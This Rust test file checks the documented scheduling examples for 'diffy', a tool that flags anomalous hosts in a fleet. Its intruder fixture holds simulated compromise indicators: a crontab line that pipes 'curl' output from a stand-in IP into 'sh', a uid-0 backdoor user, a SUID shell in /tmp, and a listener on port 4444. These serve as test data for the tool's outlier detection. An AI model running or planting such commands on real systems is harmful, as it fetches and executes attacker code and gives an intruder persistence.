//! The examples of `docs/scheduling.md`: the nightly script is run, the units and manifests are validated by programs of
//! others.

use std::fs;
use std::path::PathBuf;

use serde_json::{Value, json};

use crate::env::{DIFFY, Output, TestEnv, finish, root, run_python, set_up_debian};

const HOSTS: usize = 24;

fn example(name: &str) -> PathBuf {
    root().join("docs/scheduling").join(name)
}

/// A place with `diffy` on `PATH`, a fleet `web` that a program lists and another answers for, and what it answers.
fn fleet() -> TestEnv {
    let env = TestEnv::new();
    fs::create_dir(env.path("bin")).unwrap();
    std::os::unix::fs::symlink(DIFFY, env.path("bin/diffy")).unwrap();
    env.write("list.sh", "[ ! -e broken ] || exit 9\ncat hosts.jsonl\n");
    env.write("ask.sh", "host=$(sed 's/.*\"host\":\"\\([a-z0-9-]*\\)\".*/\\1/')\ncat answers/$host.jsonl\n");
    env.write(
        "diffy.toml",
        "[[fleets]]\nname = \"web\"\ntargets = [\"exec:sh list.sh\"]\ncollector = \"exec:sh ask.sh\"\n\
         tables = [\"users\", \"crontab\", \"suid_bin\", \"listening_ports\"]\nmin_success = 80\n",
    );
    let hosts: String = (0..HOSTS).map(|host| format!("{{\"host\":\"web-{host}\"}}\n")).collect();
    env.write("hosts.jsonl", hosts);
    (0..HOSTS).for_each(|host| answer(&env, host, &[]));
    env
}

/// Writes what a host answers: what all have, and these rows of tables.
fn answer(env: &TestEnv, host: usize, more: &[(&str, Value)]) {
    let common = [
        (
            "users",
            json!({"username": "root", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/root"}),
        ),
        ("users", json!({"username": "app", "uid": "1000", "gid": "1000", "shell": "/usr/sbin/nologin"})),
        (
            "crontab",
            json!({"command": "root run-parts /etc/cron.daily", "path": "/etc/crontab", "minute": "25"}),
        ),
        (
            "suid_bin",
            json!({"path": "/usr/bin/sudo", "username": "root", "groupname": "root", "permissions": "S"}),
        ),
        (
            "listening_ports",
            json!({"port": "443", "protocol": "6", "family": "2", "address": "0.0.0.0", "pid": "7"}),
        ),
    ];
    let mut lines = String::new();
    for table in ["users", "crontab", "suid_bin", "listening_ports"] {
        let rows = common.iter().chain(more).filter(|(of, _)| *of == table);
        let rows: Vec<&Value> = rows.map(|(_, row)| row).collect();
        lines += &format!("{}\n", json!({"table": table, "rows": rows}));
    }
    env.write(&format!("answers/web-{host}.jsonl"), lines);
}

fn night(env: &TestEnv) -> Output {
    let mut command = env.program("sh");
    command.arg(example("diffy-nightly")).arg("web");
    command.env("PATH", format!("{}:/usr/bin:/bin", env.path("bin").display()));
    finish(command)
}

#[track_caller]
fn night_ends(env: &TestEnv, status: i32) -> Output {
    let ended = night(env);
    assert_eq!(ended.status, status, "{}\n{}", ended.stdout, ended.stderr);
    ended
}

fn report(env: &TestEnv) -> Value {
    serde_json::from_str(&fs::read_to_string(env.path("web.json")).unwrap()).unwrap()
}

fn intruder() -> Vec<(&'static str, Value)> {
    vec![
        (
            "users",
            json!({"username": "sysd", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/tmp/.x"}),
        ),
        (
            "crontab",
            json!({"command": "curl -s http://198.51.100.7/x | sh", "path": "/var/spool/cron/crontabs/app"}),
        ),
        (
            "suid_bin",
            json!({"path": "/tmp/.x/bash", "username": "root", "groupname": "root", "permissions": "S"}),
        ),
        (
            "listening_ports",
            json!({"port": "4444", "protocol": "6", "family": "2", "address": "0.0.0.0", "pid": "9"}),
        ),
    ]
}

#[test]
fn the_nightly_script_tells_quiet_nights_from_others() {
    let env = fleet();
    // The first night has nothing to compare with but the fleet itself.
    let first = night_ends(&env, 0);
    assert!(first.stdout.contains("24 asked, 24 answered"), "{}", first.stdout);
    assert_eq!(report(&env)["baseline"], Value::Null);
    night_ends(&env, 0);
    assert_eq!(report(&env)["baseline"]["name"], "nightly");
    // An intruder comes.
    answer(&env, 7, &intruder());
    night_ends(&env, 3);
    let analysis = report(&env);
    assert_eq!(analysis["hosts"][0]["host"], "web-7");
    assert_eq!(analysis["hosts"][0]["verdict"], "outlier");
    assert_eq!(analysis["baseline"]["snapshots"].as_array().unwrap().len(), 2);
    // The baseline does not have what came tonight.
    let alone = env.json(&["analyze", "--methods", "baseline", "--baseline", "nightly", "--format", "json"]);
    assert_eq!(alone["hosts"][0]["host"], "web-7");
    assert!(alone["hosts"][0]["findings"].as_array().unwrap().len() >= 3, "{alone:#}");
    // It stays, and is still told of the night after: one host does not make normal what it has.
    night_ends(&env, 3);
    // It is gone; a third of the fleet does not answer.
    answer(&env, 7, &[]);
    (0..8).for_each(|host| fs::remove_file(env.path(format!("answers/web-{host}.jsonl"))).unwrap());
    night_ends(&env, 4);
    // Nobody says who the hosts are: the report of the last night stays.
    let before = report(&env);
    env.write("broken", "");
    let ended = night_ends(&env, 1);
    assert!(ended.stderr.contains("ended with exit status: 9"), "{}", ended.stderr);
    assert_eq!(report(&env), before);
    // Baselines do not pile up, snapshots are whole.
    assert_eq!(env.ok(&["baseline", "list"]).lines().count(), 1);
    assert_eq!(env.ok(&["snapshot", "list"]).lines().count(), 5);
    env.ok(&["snapshot", "verify"]);
    assert!(!env.path("web.json.new").exists());
}

#[test]
fn a_night_finishes_what_the_last_one_left() {
    let env = fleet();
    night_ends(&env, 0);
    env.write("hang", "");
    env.write("ask.sh", "[ ! -e hang ] || { echo >started; sleep 600; }\ncat answers/web-1.jsonl\n");
    let mut command = env.program("sh");
    command.arg(example("diffy-nightly")).arg("web");
    command.env("PATH", format!("{}:/usr/bin:/bin", env.path("bin").display()));
    let mut child = command.spawn().unwrap();
    while !env.path("started").exists() && child.try_wait().unwrap().is_none() {
        std::thread::yield_now();
    }
    // As when the machine goes down: nobody can tidy up.
    let spools = || fs::read_dir(env.store().join("spool")).into_iter().flatten().count();
    assert!(spools() > 0);
    kill_diffy_below(&child);
    child.wait().unwrap();
    fs::remove_file(env.path("hang")).unwrap();
    let ended = night_ends(&env, 0);
    assert_eq!(ended.stdout.matches("snapshot  ").count(), 2, "{}", ended.stdout);
    assert_eq!(spools(), 0);
}

/// Kills the children of a script without asking.
fn kill_diffy_below(script: &std::process::Child) {
    let children = fs::read_to_string(format!("/proc/{0}/task/{0}/children", script.id())).unwrap();
    for child in children.split_whitespace() {
        let pid = rustix::process::Pid::from_raw(child.parse().unwrap()).unwrap();
        rustix::process::kill_process(pid, rustix::process::Signal::KILL).unwrap();
    }
}

#[test]
fn the_three_commands_run_as_they_stand() {
    let env = fleet();
    let page = fs::read_to_string(root().join("docs/scheduling.md")).unwrap();
    let line = page.split("```sh\n").nth(1).unwrap().split("```").next().unwrap();
    let run = |status| {
        let mut command = env.program("sh");
        command.args(["-c", line]).env("PATH", format!("{}:/usr/bin:/bin", env.path("bin").display()));
        let ended = finish(command);
        assert_eq!(ended.status, status, "{line}\n{}\n{}", ended.stdout, ended.stderr);
    };
    run(0);
    env.ok(&["baseline", "list"]);
    answer(&env, 3, &intruder());
    run(3);
}

#[test]
fn the_alert_says_which_status_it_was() {
    let env = TestEnv::new();
    env.write("bin/logger.sh", "echo \"$@\"\n");
    for (status, said) in [
        ("3", "at least one host of fleet web is an outlier"),
        ("4", "too few hosts of fleet web answered"),
        ("1", "fleet web was not judged: diffy-nightly ended with 1"),
    ] {
        let mut command = env.program("sh");
        let line = "logger() { echo \"$@\"; }; . \"$SCRIPT\"";
        command.args(["-c", line, "diffy-alert", "web"]);
        command.env("SCRIPT", example("diffy-alert")).env("MONITOR_EXIT_STATUS", status);
        let told = finish(command);
        assert!(told.status == 0 && told.stdout.contains(said), "{}{}", told.stdout, told.stderr);
    }
}

#[test]
fn systemd_takes_the_units() {
    set_up_debian(&["systemd-analyze"]);
    let env = TestEnv::new();
    for script in ["diffy-nightly", "diffy-alert"] {
        fs::copy(example(script), env.path(script)).unwrap();
    }
    let units = ["diffy-nightly@.service", "diffy-nightly@.timer", "diffy-alert@.service"];
    for unit in units {
        let text = fs::read_to_string(example(unit)).unwrap();
        assert!(!text.contains("ExecStart=") || text.contains("ExecStart=/usr/local/bin/"));
        // The programs are elsewhere here; all else is as it stands.
        env.write(&format!("units/{unit}"), text.replace("/usr/local/bin", env.path("").to_str().unwrap()));
    }
    let verified = verify(
        &env,
        &[
            "units/diffy-nightly@web.service",
            "units/diffy-nightly@web.timer",
            "units/diffy-alert@web.service",
        ],
    );
    assert_eq!((verified.status, verified.stderr.as_str()), (0, ""), "{}", verified.stdout);
    // The check tells what is wrong.
    let broken = fs::read_to_string(env.path("units/diffy-nightly@.service")).unwrap();
    env.write("units/diffy-broken@.service", broken.replace("Nice=10", "Nise=10"));
    assert!(verify(&env, &["units/diffy-broken@web.service"]).stderr.contains("Nise"));
}

fn verify(env: &TestEnv, units: &[&str]) -> Output {
    let mut command = env.program("systemd-analyze");
    // Units of this machine are not those to be judged.
    command.args(["verify", "--man=no", "--recursive-errors=no"]).args(units);
    command.env("SYSTEMD_UNIT_PATH", format!("{}:", env.path("units").display()));
    finish(command)
}

/// Validates against the schemas of Kubernetes, strictly: unknown keys are errors.
const KUBERNETES: &str = r#"
import sys, yaml, kubernetes_validate
documents = list(yaml.safe_load_all(open(sys.argv[1])))
for document in documents:
    kubernetes_validate.validate(document, "1.34", strict=True)
kinds = {document["kind"]: document for document in documents}
assert sorted(kinds) == ["ConfigMap", "CronJob", "ServiceAccount"], kinds
try:
    broken = dict(kinds["CronJob"], spec=dict(kinds["CronJob"]["spec"], shedule="x"))
    kubernetes_validate.validate(broken, "1.34", strict=True)
    raise SystemExit("an unknown key was taken")
except kubernetes_validate.ValidationError:
    pass
job = kinds["CronJob"]["spec"]["jobTemplate"]["spec"]
pod = job["template"]["spec"]
[container] = pod["containers"]
assert container["securityContext"]["readOnlyRootFilesystem"] and pod["securityContext"]["runAsNonRoot"]
volumes = {volume["name"] for volume in pod["volumes"]}
mounts = {mount["name"]: mount["mountPath"] for mount in container["volumeMounts"]}
assert volumes == set(mounts), (volumes, mounts)
codes = job["podFailurePolicy"]["rules"][0]["onExitCodes"]
assert codes["containerName"] == container["name"] and 3 in codes["values"] and 4 in codes["values"]
open(sys.argv[2], "w").write(kinds["ConfigMap"]["data"]["diffy.toml"])
"#;

#[test]
fn kubernetes_takes_the_cron_job() {
    let env = TestEnv::new();
    let from = example("cronjob.yaml").display().to_string();
    let config = env.path("diffy.toml").display().to_string();
    run_python(&env, KUBERNETES, &[&from, &config]);
    // Its configuration is one: the store that it names is asked for.
    env.write(
        "local.toml",
        fs::read_to_string(&config).unwrap().replace("s3://example-triage/diffy", "nowhere"),
    );
    let stderr = env.fails(&["--config", "local.toml", "snapshot", "list"], 2);
    assert!(stderr.contains("there is no store at `nowhere`"), "{stderr}");
}

/// Validates requests against the models of AWS, and the pattern against events.
const AWS: &str = r#"
import json, sys
import botocore.session
from botocore.validate import ParamValidator
from moto.events.models import EventPattern
session = botocore.session.get_session()
def check(service, operation, parameters):
    shape = session.get_service_model(service).operation_model(operation).input_shape
    report = ParamValidator().validate(parameters, shape)
    return report.generate_report() if report.has_errors() else ""
task = json.load(open(sys.argv[1] + "/ecs-task-definition.json"))
schedule = json.load(open(sys.argv[1] + "/eventbridge-schedule.json"))
assert check("ecs", "RegisterTaskDefinition", task) == "", check("ecs", "RegisterTaskDefinition", task)
assert check("scheduler", "CreateSchedule", schedule) == "", check("scheduler", "CreateSchedule", schedule)
assert "familie" in check("ecs", "RegisterTaskDefinition", dict(task, familie="x"))
assert schedule["Target"]["EcsParameters"]["TaskDefinitionArn"].endswith("/" + task["family"])
[container] = task["containerDefinitions"]
assert container["readonlyRootFilesystem"] and container["user"] == "65532:65532"
assert {mount["sourceVolume"] for mount in container["mountPoints"]} == {volume["name"] for volume in task["volumes"]}
pattern = EventPattern.load(open(sys.argv[1] + "/eventbridge-alert.json").read())
def event(status, group="family:diffy-nightly"):
    # AWS looks into arrays of objects, moto does not: the one container without its array.
    container = {"name": "diffy"} if status is None else {"name": "diffy", "exitCode": status}
    detail = {"lastStatus": "STOPPED", "group": group, "containers": container}
    return {"source": "aws.ecs", "detail-type": "ECS Task State Change", "detail": detail}
assert [pattern.matches_event(event(status)) for status in (0, 1, 3, 4, None)] == [False] + 4 * [True]
assert not pattern.matches_event(event(3, "family:other"))
"#;

#[test]
fn aws_takes_the_schedule() {
    let env = TestEnv::new();
    run_python(&env, AWS, &[root().join("docs/scheduling").to_str().unwrap()]);
}

#[test]
fn the_image_has_what_it_needs_and_no_root() {
    let dockerfile = fs::read_to_string(root().join("Dockerfile")).unwrap();
    let ignore = fs::read_to_string(root().join(".dockerignore")).unwrap();
    let sent: Vec<&str> = ignore.lines().filter_map(|line| line.strip_prefix('!')).collect();
    for path in &sent {
        assert!(root().join(path).exists(), "{path} of .dockerignore is not there");
    }
    // What the build reads is sent; stores and credentials beside the checkout are not.
    for needed in ["Cargo.toml", "Cargo.lock", "src", "sql", "schemas"] {
        assert!(sent.contains(&needed), "{needed}");
    }
    assert!(ignore.lines().any(|line| line == "*"));
    let manifest: toml::Table =
        toml::from_str(&fs::read_to_string(root().join("Cargo.toml")).unwrap()).unwrap();
    let rust = manifest["package"]["rust-version"].as_str().unwrap();
    assert!(dockerfile.contains(&format!("FROM rust:{rust}-")), "{rust}");
    let last = dockerfile.rsplit("\nFROM ").next().unwrap();
    assert!(last.contains("\nUSER 65532:65532\n"));
    for line in last.lines().filter(|line| line.starts_with("COPY ") && !line.contains("--from=")) {
        let from = line.split_whitespace().find(|word| word.starts_with("docs/") || word.starts_with("src/"));
        assert!(sent.contains(&from.unwrap()), "{line}");
    }
}

#[test]
fn every_example_is_linked() {
    let page = fs::read_to_string(root().join("docs/scheduling.md")).unwrap();
    for path in crate::tidy::files(&root().join("docs/scheduling")) {
        let name = path.file_name().unwrap().to_str().unwrap();
        assert!(page.contains(&format!("](scheduling/{name})")), "docs/scheduling.md does not link {name}");
    }
}
